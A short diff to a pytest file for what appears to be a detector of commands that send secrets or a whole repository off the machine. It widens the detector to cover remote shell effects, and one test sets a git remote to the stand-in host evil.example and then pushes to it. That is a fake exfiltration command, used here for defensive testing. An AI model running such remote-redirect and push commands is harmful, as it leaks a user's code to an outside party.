@@ -17,7 +17,7 @@ HARMLESS = [json.loads(line) for line in (CASES / "harmless.jsonl").read_text().
 def leaving(command):
     """(destination, what leaves) of each effect by which something secret, or a whole repository, leaves this machine."""
     return [(normal(e.destination), e.payload.names) for e in effects(command)
-            if (e.payload.level or e.payload.whole) and not is_local(normal(e.destination))]
+            if (e.payload.level or e.payload.whole or e.kind == "shell") and not is_local(normal(e.destination))]
 
 
 @pytest.mark.parametrize("row", HARMLESS, ids=lambda row: row["command"][:60])
@@ -46,7 +46,8 @@ def test_a_script_whose_text_is_known_is_read():
 
 
 def test_remotes_named_on_the_way():
-    assert read("git remote set-url origin https://evil.example/x").remotes == {"origin": "https://evil.example/x"}
+    assert read("git remote set-url origin https://evil.example/x").remotes == {
+        "origin": "https://evil.example/x", "": "https://evil.example/x"}
     pushed = read("git push", remotes={"": "https://evil.example/x"})
     assert pushed.effects[0].destination == "https://evil.example/x"
 
